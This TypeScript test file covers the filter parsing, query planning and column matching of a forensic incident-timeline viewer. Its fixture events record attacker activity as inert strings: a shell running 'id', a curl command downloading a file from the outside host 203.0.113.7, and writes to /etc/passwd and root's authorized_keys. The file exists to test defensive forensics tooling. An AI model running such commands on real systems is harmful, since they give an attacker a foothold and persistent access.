// Filter → query planning for the renderer's timeline store: URL filters become clauses, selective clauses come back
// from the indexes as exact key lists, wide ones are checked on the in-memory columns, and the key-list arithmetic
// gives exactly what a plain filter over the events would.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { TimelineEvent } from '../../src/forensics/common/timeline-model.js';
import { acceptTable, clauseColumn, Columns, encodeChunk } from '../../renderer/src/features/timeline/columns.js';
import {
  clipToRange,
  filterPositions,
  INDEX_LIMIT,
  indexOfPosition,
  intersectSorted,
  keysResult,
  planQuery,
  positionAt,
  rangeResult,
  sortedUnique,
  type IndexClause,
} from '../../renderer/src/features/timeline/query-plan.js';
import {
  clausesFor,
  NO_FILTERS,
  parseFilters,
  queryTerms,
  timeBounds,
  type Clause,
} from '../../renderer/src/features/timeline/timeline-filters.js';

function event(index: number, fields: Partial<TimelineEvent> & { pid?: number; process?: string; path?: string }) {
  const { pid, process, path, ...rest } = fields;
  return {
    id: `e${index}`,
    tns: String(1_795_395_390_000_000_000n + BigInt(index) * 1_000_000n),
    at: '2026-11-23T00:56:30.000000000Z',
    source: 'syscall',
    kind: 'process.exec',
    subject: { ...(pid === undefined ? {} : { pid }), ...(process ? { process } : {}), ...(path ? { path } : {}) },
    summary: `event ${index}`,
    attributes: {},
    techniques: [],
    confidence: 'exact',
    evidence: { itemId: 'trace-1', sha256: 'ab'.repeat(32), locator: `seq ${index}` },
    ...rest,
  } satisfies TimelineEvent;
}

/** A small incident: a shell, a download, writes to accounts and keys, the responder, spread over two pages. */
const EVENTS: TimelineEvent[] = [
  event(0, { source: 'engine', kind: 'container.created', summary: 'container web-1 created' }),
  event(1, { pid: 40, process: '/bin/sh -c id', techniques: ['T1059.004'] }),
  event(2, { pid: 41, process: 'curl -o /tmp/x http://203.0.113.7/x', techniques: ['T1105'] }),
  event(3, { kind: 'file.write', pid: 40, process: '/bin/sh -c id', path: '/etc/passwd', techniques: ['T1098'] }),
  event(4, {
    kind: 'file.write',
    pid: 40,
    process: '/bin/sh',
    path: '/root/.ssh/authorized_keys',
    techniques: ['T1098.004'],
  }),
  event(5, { kind: 'network.connect', pid: 41, process: 'curl', techniques: ['T1105', 'T1071'] }),
  event(6, { source: 'falco', kind: 'alert', pid: 40, process: 'sh', techniques: ['T1059.004'] }),
  event(7, { source: 'custody', kind: 'responder.isolate', summary: 'responder isolated web-1' }),
];

function columnsOf(events: readonly TimelineEvent[], page: number): Columns {
  const columns = new Columns(events.length);
  for (let start = 0; start < events.length; start += page)
    columns.add(encodeChunk(start, events.slice(start, start + page)));
  return columns;
}

/** What the clause means, said plainly over the event (the reference the index and column answers must equal). */
function plainly(item: TimelineEvent, clause: Clause): boolean {
  if (clause.op === 'contains') throw new Error('text is the search worker’s');
  const held: (string | number | undefined)[] = {
    source: [item.source],
    kind: [item.kind],
    technique: item.techniques,
    pid: [item.subject.pid],
    exe: [item.subject.process?.split(' ')[0]?.split('/').pop()?.toLowerCase()],
    path: [item.subject.path],
    id: [item.id],
  }[clause.index];
  return held.some(
    (value) =>
      value !== undefined &&
      clause.values.some((wanted) =>
        clause.op === 'prefix' ? String(value).startsWith(String(wanted)) : String(value) === String(wanted),
      ),
  );
}

describe('filters in the URL become clauses', () => {
  it('given every filter in the URL, when parsed, then each becomes the clause its index answers', () => {
    const params = new URLSearchParams({
      tsource: 'falco,syscall,nonsense',
      tkind: 'file.*',
      ttech: 't1098',
      tproc: '40',
      tpath: '/etc/',
      tq: '  Passwd   ROOT passwd ',
      tfrom: '1795395390000000000',
      tto: 'yesterday',
      tmarked: '1',
    });
    const filters = parseFilters((name) => params.get(name) ?? '');
    expect(filters.sources).toEqual(['syscall', 'falco']);
    expect(filters.to).toBe('');
    expect(clausesFor(filters, ['e3', 'e1', 'e3'])).toEqual([
      { index: 'source', op: 'equals', values: ['syscall', 'falco'] },
      { index: 'kind', op: 'prefix', values: ['file.'] },
      { index: 'technique', op: 'prefix', values: ['T1098'] },
      { index: 'pid', op: 'equals', values: [40] },
      { index: 'path', op: 'prefix', values: ['/etc/'] },
      { index: 'text', op: 'contains', values: ['passwd', 'root'] },
      { index: 'id', op: 'equals', values: ['e1', 'e3'] },
    ]);
    expect(timeBounds(filters)).toEqual({ lo: '0001795395390000000000' });
  });

  it('given a process name instead of a pid, when planned, then it is matched on the executable name, any case', () => {
    expect(clausesFor({ ...NO_FILTERS, process: 'Curl' })).toEqual([{ index: 'exe', op: 'equals', values: ['curl'] }]);
    expect(clausesFor(NO_FILTERS)).toEqual([]);
    expect(queryTerms('a\tb  a')).toEqual(['a', 'b']);
  });

  it('given malformed kinds and technique ids in the URL, when parsed, then they are ignored, not queried', () => {
    const filters = parseFilters((name) => ({ tkind: 'file.*.x', ttech: 'T1059.4' })[name] ?? '');
    expect(filters.kind).toBe('');
    expect(filters.technique).toBe('');
  });
});

describe('planning against the indexes and the columns', () => {
  const shell: IndexClause = { index: 'technique', op: 'prefix', values: ['T1059'] };
  const syscall: IndexClause = { index: 'source', op: 'equals', values: ['syscall'] };
  const pid: IndexClause = { index: 'pid', op: 'equals', values: [40] };
  const text: Clause = { index: 'text', op: 'contains', values: ['curl'] };

  it('given selective and wide conditions, when planned, then the selective ones come from their indexes fewest first and the wide ones are checked', () => {
    const plan = planQuery(
      [syscall, shell, pid, text],
      [
        { clause: syscall, count: INDEX_LIMIT + 1 },
        { clause: shell, count: 2 },
        { clause: pid, count: 1 },
      ],
    );
    expect(plan.empty).toBe(false);
    expect(plan.indexed).toEqual([pid, shell]);
    expect(plan.checks).toEqual([syscall]);
    expect(plan.text).toEqual(text);
  });

  it('given a condition that matches nothing, when planned, then the answer is empty without more work', () => {
    expect(planQuery([shell], [{ clause: shell, count: 0 }]).empty).toBe(true);
  });

  it('given a process name, which has a column but no index, when planned, then it is checked on the column however few match', () => {
    const exe: IndexClause = { index: 'exe', op: 'equals', values: ['curl'] };
    expect(planQuery([exe], [{ clause: exe, count: 1 }])).toMatchObject({ indexed: [], checks: [exe] });
  });

  it('given bookmarks, which no column counts, when planned, then they are read from the id index', () => {
    const bookmarks: IndexClause = { index: 'id', op: 'equals', values: ['e1'] };
    expect(clauseColumn(bookmarks)).toBeUndefined();
    expect(planQuery([bookmarks], [{ clause: bookmarks, count: undefined }]).indexed).toEqual([bookmarks]);
    expect(clauseColumn(syscall)).toBe('source');
  });

  it('given the columns of a small incident, when a condition is counted, then the count is exact without reading an event', () => {
    const columns = columnsOf(EVENTS, 3);
    expect(columns.count(syscall)).toBe(5);
    expect(columns.count(shell)).toBe(2);
    expect(columns.count({ index: 'technique', op: 'prefix', values: ['T1098'] })).toBe(2);
    expect(columns.count({ index: 'exe', op: 'equals', values: ['curl'] })).toBe(2);
  });
});

describe('the in-memory columns', () => {
  const clauses: IndexClause[] = [
    { index: 'source', op: 'equals', values: ['syscall', 'falco'] },
    { index: 'kind', op: 'prefix', values: ['file.'] },
    { index: 'kind', op: 'equals', values: ['alert'] },
    { index: 'technique', op: 'prefix', values: ['T1098'] },
    { index: 'technique', op: 'prefix', values: ['T1105'] },
    { index: 'pid', op: 'equals', values: [40] },
    { index: 'exe', op: 'equals', values: ['curl'] },
    { index: 'path', op: 'prefix', values: ['/etc/'] },
  ];

  it('given pages with their own dictionaries, when merged and checked, then every clause matches exactly the events it means', () => {
    for (const page of [1, 3, 8]) {
      const columns = columnsOf(EVENTS, page);
      for (const clause of clauses) {
        const check = columns.compile(clause);
        const expected = EVENTS.flatMap((item, position) => (plainly(item, clause) ? [position] : []));
        expect([...filterPositions([check], { lo: 0, hi: EVENTS.length - 1 })], JSON.stringify(clause)).toEqual(
          expected,
        );
      }
    }
  });

  it('given techniques listed together on an event, when the menu is built, then each technique is counted on its own', () => {
    const techniques = columnsOf(EVENTS, 3).values('technique');
    expect(techniques).toContainEqual({ value: 'T1105', count: 2 });
    expect(techniques).toContainEqual({ value: 'T1071', count: 1 });
    expect(columnsOf(EVENTS, 3).values('source')[0]).toEqual({ value: 'syscall', count: 5 });
  });

  it('given an event without the field, when any clause is checked, then it never matches (code 0 is "none")', () => {
    expect(acceptTable(['/etc/passwd'], 'path', { index: 'path', op: 'prefix', values: [''] })[0]).toBe(0);
    expect(columnsOf(EVENTS, 8).times[3]).toBeCloseTo(1_795_395_390_003, 3);
  });
});

describe('key lists', () => {
  const keyList = fc.array(fc.integer({ min: 0, max: 500 }), { maxLength: 200 });

  it('given any key lists, when sorted, intersected and clipped, then the result is what sets say', () => {
    fc.assert(
      fc.property(
        keyList,
        keyList,
        fc.integer({ min: 0, max: 500 }),
        fc.integer({ min: 0, max: 500 }),
        (a, b, x, y) => {
          const [lo, hi] = x <= y ? [x, y] : [y, x];
          const left = sortedUnique(a);
          const right = sortedUnique(b);
          const expected = [...new Set(a)].filter((key) => b.includes(key)).sort((m, n) => m - n);
          expect([...intersectSorted(left, right)]).toEqual(expected);
          expect([...clipToRange(left, lo, hi)]).toEqual([...left].filter((key) => key >= lo && key <= hi));
        },
      ),
    );
  });

  it('given a result, when rows are looked up by list index and back, then positions and indexes agree', () => {
    const keys = keysResult(Uint32Array.of(3, 9, 12));
    expect(positionAt(keys, 1)).toBe(9);
    expect(indexOfPosition(keys, 12)).toBe(2);
    expect(indexOfPosition(keys, 10)).toBe(-1);
    const range = rangeResult(100, 199);
    expect(range.count).toBe(100);
    expect(positionAt(range, 5)).toBe(105);
    expect(indexOfPosition(range, 99)).toBe(-1);
    expect(rangeResult(5, 4).count).toBe(0);
  });
});
